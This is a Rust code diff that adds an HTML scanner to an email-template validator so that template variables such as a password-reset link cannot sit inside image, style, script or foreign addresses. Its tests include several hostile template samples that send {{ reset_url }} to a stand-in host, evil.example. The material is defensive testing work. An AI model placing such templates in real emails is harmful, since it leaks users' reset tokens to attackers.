@@ -117,6 +117,8 @@ pub fn validate(
             note(field, "This field is required.".to_owned());
         } else if body.chars().count() > MAX_BODY_CHARS {
             note(field, "Use at most 20,000 characters.".to_owned());
+        } else if field == "html_body" && misplaced_variable(body) {
+            note(field, MISPLACED_VARIABLE.to_owned());
         }
     }
     for (field, text) in [
@@ -146,6 +148,174 @@ pub fn validate(
             ],
         })
     }
+}
+
+/// Why an HTML body with a variable in the wrong place is refused.
+pub const MISPLACED_VARIABLE: &str = "Inside a tag a variable may only be a whole link address, \
+     as in <a href=\"{{ reset_url }}\">. Variables may not be part of another address, an image, \
+     a style, a script or a comment: the mail client would send a live link to that server.";
+
+/// Where the HTML scanner is: in text, in a tag (and which part of it), or in text that is not
+/// markup (comments, `<style>`, `<script>`).
+#[derive(Clone, Copy, PartialEq, Eq)]
+enum Html {
+    Text,
+    TagName,
+    InTag,
+    AttrName,
+    AfterAttrName,
+    BeforeValue,
+    Quoted(u8),
+    Unquoted,
+    Comment,
+    Raw,
+}
+
+/// Whether an HTML template puts a `{{ variable }}` anywhere but in text or as the whole value
+/// of a quoted `href` of `<a>`: a variable in an image, style or other address would hand the
+/// link it carries (a reset link) to whatever server that address names, so only super admins
+/// edit templates and even they cannot do that. The scan follows the HTML tokenizer's states
+/// closely enough for templates, and refuses whatever it does not follow (comments, raw text).
+pub fn misplaced_variable(html: &str) -> bool {
+    let bytes = html.as_bytes();
+    let lower = html.to_ascii_lowercase();
+    let mut state = Html::Text;
+    let mut tag = String::new();
+    let mut attr = String::new();
+    let mut raw_end: &str = "";
+    let mut value_start = 0;
+    let mut i = 0;
+    while i < bytes.len() {
+        let b = bytes[i];
+        if lower[i..].starts_with("{{") {
+            let whole_href = |end: usize| {
+                let value = html[value_start..end].trim();
+                (tag == "a" || tag == "area")
+                    && attr == "href"
+                    && value.starts_with("{{")
+                    && value.ends_with("}}")
+                    && value[2..].find("{{").is_none()
+            };
+            let ok = match state {
+                Html::Text => true,
+                Html::Quoted(q) => {
+                    let end = html[i..].find(q as char).map_or(html.len(), |e| i + e);
+                    whole_href(end)
+                }
+                _ => false,
+            };
+            if !ok {
+                return true;
+            }
+        }
+        match state {
+            Html::Text => {
+                if lower[i..].starts_with("<!--") {
+                    state = Html::Comment;
+                    i += 4;
+                    continue;
+                }
+                if b == b'<' {
+                    let next = bytes.get(i + 1).copied().unwrap_or(b' ');
+                    if next.is_ascii_alphabetic() || (next == b'/') || next == b'!' || next == b'?'
+                    {
+                        tag.clear();
+                        state = Html::TagName;
+                        i += if next == b'/' { 2 } else { 1 };
+                        continue;
+                    }
+                }
+            }
+            Html::TagName => {
+                if b.is_ascii_whitespace() || b == b'/' {
+                    state = Html::InTag;
+                } else if b == b'>' {
+                    state = after_tag(&tag, &mut raw_end);
+                } else {
+                    tag.push(b.to_ascii_lowercase() as char);
+                }
+            }
+            Html::InTag | Html::AfterAttrName => {
+                if b == b'>' {
+                    state = after_tag(&tag, &mut raw_end);
+                } else if b == b'=' && state == Html::AfterAttrName {
+                    state = Html::BeforeValue;
+                } else if !b.is_ascii_whitespace() && b != b'/' {
+                    attr.clear();
+                    attr.push(b.to_ascii_lowercase() as char);
+                    state = Html::AttrName;
+                }
+            }
+            Html::AttrName => {
+                if b == b'=' {
+                    state = Html::BeforeValue;
+                } else if b == b'>' {
+                    state = after_tag(&tag, &mut raw_end);
+                } else if b.is_ascii_whitespace() || b == b'/' {
+                    state = Html::AfterAttrName;
+                } else {
+                    attr.push(b.to_ascii_lowercase() as char);
+                }
+            }
+            Html::BeforeValue => {
+                if b == b'"' || b == b'\'' {
+                    state = Html::Quoted(b);
+                    value_start = i + 1;
+                } else if b == b'>' {
+                    state = after_tag(&tag, &mut raw_end);
+                } else if !b.is_ascii_whitespace() {
+                    state = Html::Unquoted;
+                    value_start = i;
+                }
+            }
+            Html::Quoted(q) => {
+                if b == q {
+                    state = Html::InTag;
+                }
+            }
+            Html::Unquoted => {
+                if b.is_ascii_whitespace() {
+                    state = Html::InTag;
+                } else if b == b'>' {
+                    state = after_tag(&tag, &mut raw_end);
+                }
+            }
+            Html::Comment => {
+                if lower[i..].starts_with("-->") {
+                    state = Html::Text;
+                    i += 3;
+                    continue;
+                }
+            }
+            Html::Raw => {
+                if lower[i..].starts_with(raw_end) {
+                    state = Html::Text;
+                    continue;
+                }
+            }
+        }
+        // Step over a whole character so slicing stays on character boundaries.
+        i += html[i..].chars().next().map_or(1, char::len_utf8);
+    }
+    false
+}
+
+/// The state after a tag closes: raw text inside `<style>`, `<script>` and their kin (where a
+/// variable is never allowed), else text.
+fn after_tag(tag: &str, raw_end: &mut &'static str) -> Html {
+    *raw_end = match tag {
+        "style" => "</style",
+        "script" => "</script",
+        "textarea" => "</textarea",
+        "title" => "</title",
+        "xmp" => "</xmp",
+        "noscript" => "</noscript",
+        "iframe" => "</iframe",
+        "noembed" => "</noembed",
+        "noframes" => "</noframes",
+        _ => return Html::Text,
+    };
+    Html::Raw
 }
 
 fn unknown_variable(variables: &[&str], text: &str) -> Option<String> {
@@ -200,5 +370,46 @@ mod tests {
                 .is_some()
         );
         assert!(validate(&vars, "a\nb", "a", "b").is_err());
+    }
+
+    #[test]
+    fn a_variable_may_be_a_whole_link_address_or_text_and_nothing_else() {
+        for ok in [
+            "<p>Hello {{ user.first_name }}</p><p><a href=\"{{ reset_url }}\">Reset</a></p>",
+            "<a class=x href='{{ reset_url }}' title=\"Reset\">go</a>",
+            "<p>1 > 0 and {{ portal_name }}</p>",
+            "<img src=\"https://cdn.example/logo.png\" alt=\"logo\">{{ user.email }}",
+        ] {
+            assert!(!misplaced_variable(ok), "{ok}");
+        }
+        for bad in [
+            "<img src=\"https://evil.example/{{ reset_url }}\">",
+            "<img src=\"{{ reset_url }}\">",
+            "<img alt=\">\" src=\"https://evil.example/?{{ reset_url }}\">",
+            "<img src=https://evil.example/?{{reset_url}}>",
+            "<a href=\"https://evil.example/?u={{ reset_url }}\">x</a>",
+            "<a href=\"{{ reset_url }}{{ user.email }}\">x</a>",
+            "<link rel=stylesheet href=\"{{ reset_url }}\">",
+            "<div style=\"background:url({{ reset_url }})\"></div>",
+            "<style>body { background: url({{ reset_url }}) }</style>",
+            "<!-- <img src=\"{{ reset_url }}\"> -->",
+            "<table background=\"{{ reset_url }}\"></table>",
+            "<a title=\"{{ user.first_name }}\" href=\"https://x\">x</a>",
+            "<img {{ reset_url }}>",
+        ] {
+            assert!(misplaced_variable(bad), "{bad}");
+        }
+        let (_, vars) = template_info("password_reset").expect("known");
+        let err = validate(
+            &vars,
+            "s",
+            "t",
+            "<img src=\"https://evil.example/{{ reset_url }}\">",
+        )
+        .expect_err("refused");
+        assert_eq!(
+            err.field_message("html_body").as_deref(),
+            Some(MISPLACED_VARIABLE)
+        );
     }
 }
